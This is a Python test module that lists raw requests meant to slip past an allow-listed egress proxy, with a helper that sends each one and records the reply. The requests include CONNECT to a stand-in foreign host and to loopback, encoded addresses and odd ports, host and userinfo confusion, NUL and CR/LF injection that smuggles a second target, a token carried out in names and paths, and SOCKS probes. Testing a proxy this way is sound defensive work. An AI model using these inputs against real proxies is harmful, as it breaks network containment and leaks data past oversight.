"""Requests by which a hostile program would have the proxy open what is not on the list.

Runs as: the first part of egress_ways.py, which has one text, as a session's program has one file.
"""
import socket

FOREIGN, FOREIGN6, DNS, ALLOWED_ADDRESS = "198.51.100.7", "2001:db8::7", "198.51.100.53", "198.51.100.1"
ALLOWED, LOCAL_PORT = "webmail.academie.example", 631
SECONDS = 2

# Requests to the proxy. TOKEN stands where a name may stand and in the tunnel, if one opens.
REQUESTS = {
    "connect-foreign-host": "CONNECT foreign.example:443 HTTP/1.1\r\n\r\n",
    "connect-foreign-name-with-data": "CONNECT TOKEN.foreign.example:443 HTTP/1.1\r\n\r\n",
    "connect-foreign-address": f"CONNECT {FOREIGN}:443 HTTP/1.1\r\n\r\n",
    "connect-ipv6-address": f"CONNECT [{FOREIGN6}]:443 HTTP/1.1\r\n\r\n",
    "connect-number-for-an-address": "CONNECT 3325256711:443 HTTP/1.1\r\n\r\n",
    "connect-loopback-of-the-machine": f"CONNECT 127.0.0.1:{LOCAL_PORT} HTTP/1.1\r\n\r\n",
    "connect-localhost": f"CONNECT localhost:{LOCAL_PORT} HTTP/1.1\r\n\r\n",
    "connect-address-of-the-webmail": f"CONNECT {ALLOWED_ADDRESS}:443 HTTP/1.1\r\n\r\n",
    "connect-other-port": f"CONNECT {ALLOWED}:25 HTTP/1.1\r\n\r\n",
    "connect-overflowing-port": f"CONNECT {ALLOWED}:65561 HTTP/1.1\r\n\r\n",
    "connect-octal-port": f"CONNECT {ALLOWED}:0025 HTTP/1.1\r\n\r\n",
    "connect-dot-at-the-end": f"CONNECT {ALLOWED}.:443 HTTP/1.1\r\n\r\n",
    "connect-upper-case": f"CONNECT {ALLOWED.upper()}:443 HTTP/1.1\r\n\r\n",
    "connect-user-is-the-webmail": f"CONNECT {ALLOWED}:443@foreign.example:443 HTTP/1.1\r\n\r\n",
    "connect-user-is-foreign": f"CONNECT foreign.example@{ALLOWED}:443 HTTP/1.1\r\n\r\n",
    "connect-name-below-foreign": f"CONNECT {ALLOWED}.foreign.example:443 HTTP/1.1\r\n\r\n",
    "connect-name-in-front": f"CONNECT xwebmail.academie.example:443 HTTP/1.1\r\n\r\n",
    "connect-with-a-path": f"CONNECT foreign.example:443/{ALLOWED}:443 HTTP/1.1\r\n\r\n",
    "connect-with-a-scheme": "CONNECT https://foreign.example:443 HTTP/1.1\r\n\r\n",
    "connect-host-field-of-the-webmail": f"CONNECT foreign.example:443 HTTP/1.1\r\nHost: {ALLOWED}:443\r\n\r\n",
    "connect-two-targets": f"CONNECT {ALLOWED}:443 foreign.example:443 HTTP/1.1\r\n\r\n",
    "connect-tab-in-the-line": f"CONNECT foreign.example:443\t{ALLOWED}:443 HTTP/1.1\r\n\r\n",
    "connect-nul-in-the-name": f"CONNECT foreign.example:443\0{ALLOWED}:443 HTTP/1.1\r\n\r\n",
    "connect-bare-line-feeds": f"CONNECT foreign.example:443 HTTP/1.1\nHost: {ALLOWED}:443\n\n\r\n\r\n",
    "connect-return-in-the-line": f"CONNECT {ALLOWED}:443\r HTTP/1.1\r\nX: \rCONNECT foreign.example:443 HTTP/1.1\r\n\r\n",
    "connect-small-letters": "connect foreign.example:443 HTTP/1.1\r\n\r\n",
    "connect-and-one-more": f"CONNECT {ALLOWED}.:443 HTTP/1.1\r\nContent-Length: 0\r\n\r\n"
                            "CONNECT foreign.example:443 HTTP/1.1\r\n\r\n",
    "connect-without-a-version": "CONNECT foreign.example:443\r\n\r\n",
    "get-foreign": "GET http://foreign.example:443/TOKEN HTTP/1.1\r\nHost: foreign.example\r\n\r\n",
    "get-webmail": f"GET http://{ALLOWED}:443/TOKEN HTTP/1.1\r\nHost: {ALLOWED}\r\n\r\n",
    "get-by-host-field": "GET /TOKEN HTTP/1.1\r\nHost: foreign.example:443\r\n\r\n",
    "post-foreign": "POST http://foreign.example:443/ HTTP/1.1\r\nContent-Length: 40\r\n\r\nTOKEN",
    "options-through": "OPTIONS http://foreign.example:443/TOKEN HTTP/1.1\r\nMax-Forwards: 9\r\n\r\n",
    "socks-4": b"\x04\x01\x01\xbb" + socket.inet_aton(FOREIGN) + b"\0",
    "socks-5": b"\x05\x01\x00",
}


def request_of(text):
    def attempt(token):
        data = text if isinstance(text, bytes) else text.replace("TOKEN", token.decode()).encode()
        with socket.create_connection(("127.0.0.1", 3128), timeout=SECONDS) as proxy:
            proxy.sendall(data)
            answer = proxy.recv(1000)
            proxy.sendall(token)
            proxy.recv(1000)
        return answer.split(b"\r\n")[0].decode(errors="replace")
    return attempt
